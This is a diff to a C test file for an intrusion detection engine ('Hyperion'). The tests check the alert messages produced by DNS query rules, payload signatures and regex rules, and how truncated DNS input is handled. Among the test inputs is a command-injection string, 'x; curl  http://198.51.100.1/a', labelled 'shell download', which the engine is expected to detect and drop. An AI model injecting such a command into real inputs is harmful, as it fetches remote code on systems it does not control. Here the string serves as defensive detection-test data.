@@ -100,7 +100,8 @@ main(void)
 	hyp_engine_inspect(e, s, b, n, IPPROTO_UDP, 53, &v);
 	tap(v.dns_query && strcmp(v.rrname, "www.evil.com") == 0, "query name is reported normalized",
 	    "rrname '%s'", v.rrname);
-	tap(v.msg != NULL && strstr(v.msg, "evil.com") != NULL, "alert text names the domain",
+	tap(v.msg != NULL && strcmp(v.msg, "HYPERION DNS query for evil.com") == 0,
+	    "a DNS rule's EVE signature text: HYPERION DNS query for <match>",
 	    "msg '%s'", v.msg ? v.msg : "(null)");
 	tap(v.dns_rule, "a DNS rule decided it (judged per query)", NULL);
 	n = dns_query(b, "notevil.com");
@@ -127,11 +128,23 @@ main(void)
 	tap(v.action == HYP_ACTION_PASS && !v.dns_query && v.dns_err < 0,
 	    "a DNS response is not matched as a query, and says why", "dns_err %d", v.dns_err);
 	hyp_engine_inspect(e, s, (const uint8_t *)"\xc0", 1, IPPROTO_UDP, 53, &v);
-	tap(v.action == HYP_ACTION_PASS && v.dns_err < 0, "garbage on port 53: counted, passed", NULL);
+	tap(v.action == HYP_ACTION_PASS && v.dns_err == HYP_DNS_ETRUNC,
+	    "1 byte on port 53: passed, flagged truncated for the pipeline's dns_errors",
+	    "action %d dns_err %d", v.action, v.dns_err);
 
 	expect(e, s, "literal signature anywhere in the payload",
 	       (const uint8_t *)"GET /EVILBYTES HTTP/1.0", 23, IPPROTO_TCP, 8080,
 	       HYP_ACTION_ALERT, 20);
+	hyp_engine_inspect(e, s, (const uint8_t *)"GET /EVILBYTES HTTP/1.0", 23, IPPROTO_TCP,
+			   8080, &v);
+	tap(v.msg != NULL && strcmp(v.msg, "HYPERION payload signature 20") == 0,
+	    "a payload signature's EVE signature text: HYPERION payload signature <id>",
+	    "msg '%s'", v.msg ? v.msg : "(null)");
+	hyp_engine_inspect(e, s, (const uint8_t *)"x; curl  http://198.51.100.1/a", 30,
+			   IPPROTO_TCP, 80, &v);
+	tap(v.msg != NULL && strcmp(v.msg, "shell download") == 0,
+	    "a payload rule's EVE signature text is its msg", "msg '%s'",
+	    v.msg ? v.msg : "(null)");
 	expect(e, s, "regex scoped to TCP/80 matches there",
 	       (const uint8_t *)"x; curl  http://198.51.100.1/a", 30, IPPROTO_TCP, 80,
 	       HYP_ACTION_DROP, 30);
